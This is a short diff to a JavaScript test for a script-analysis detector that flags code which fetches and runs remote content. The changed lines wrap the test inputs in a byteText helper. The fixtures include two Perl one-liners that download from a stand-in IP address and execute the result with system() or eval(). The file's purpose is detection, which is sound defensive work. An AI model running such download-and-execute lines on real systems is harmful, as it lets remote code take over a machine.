@@ -110,10 +110,10 @@ test('no text makes it throw, and what it shows is shown text', () => {
 
 test('a program of another language that only loads a library for the web fetches nothing', () => {
   const app = "sub update { system('sh', '-c', 'exit') and require HTTP::Tiny }";
-  expect(scriptFacts(app).fetchesAndRuns).toBe(false);
+  expect(scriptFacts(byteText(app)).fetchesAndRuns).toBe(false);
   for (const loader of [
     "system(HTTP::Tiny->new->get('http://203.0.113.9/x')->{content})",
     "eval(LWP::Simple::get('http://203.0.113.9/x'))",
   ])
-    expect(scriptFacts(loader).fetchesAndRuns).toBe(true);
+    expect(scriptFacts(byteText(loader)).fetchesAndRuns).toBe(true);
 });
